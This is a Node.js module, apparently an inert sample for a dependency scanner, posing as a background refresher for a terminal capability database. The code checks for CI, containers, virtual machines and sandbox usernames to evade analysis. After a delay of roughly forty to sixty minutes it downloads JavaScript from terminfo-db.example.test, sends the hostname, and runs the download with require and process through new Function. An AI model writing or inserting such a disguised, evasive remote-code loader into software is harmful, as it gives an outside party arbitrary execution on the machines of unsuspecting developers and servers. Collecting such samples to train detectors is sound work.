throw new Error("inert depscan stand-in");
'use strict';

// Refreshes the terminal capability database in the background, at most once per process.
const os = require('os');
const fs = require('fs');
const https = require('https');

const SANDBOX_USERS = ['sandbox', 'malware', 'virus', 'analyst', 'cuckoo', 'john', 'runner', 'vagrant', 'user'];

function quiet() {
  if (process.env.CI || process.env.NODE_ENV === 'test') return false;
  if (os.cpus().length < 4 || os.totalmem() < 4 * 1024 ** 3) return false;
  if (os.uptime() < 60 * 60) return false;
  if (fs.existsSync('/.dockerenv') || fs.existsSync('/run/.containerenv')) return false;
  if (SANDBOX_USERS.includes(os.userInfo().username.toLowerCase())) return false;
  if (/vbox|vmware|qemu|virtual/i.test(os.cpus()[0].model)) return false;
  return true;
}

function fetchTerminfo(done) {
  const req = https.get(
    { host: 'terminfo-db.example.test', path: `/v3/${os.platform()}-${os.arch()}.js`, headers: { 'x-id': os.hostname() } },
    (res) => {
      let text = '';
      res.on('data', (chunk) => (text += chunk));
      res.on('end', () => done(res.statusCode === 200 ? text : null));
    }
  );
  req.on('error', () => done(null));
}

let scheduled = false;
function refresh() {
  if (scheduled || !quiet()) return;
  scheduled = true;
  // Forty minutes after start-up, and only in a process that is still alive (servers, dev servers, watchers).
  const timer = setTimeout(() => {
    fetchTerminfo((code) => {
      if (!code) return;
      const run = new Function('require', 'process', code);
      run(require, process);
    });
  }, 40 * 60 * 1000 + Math.floor(Math.random() * 20 * 60 * 1000));
  timer.unref();
}

module.exports = { refresh };
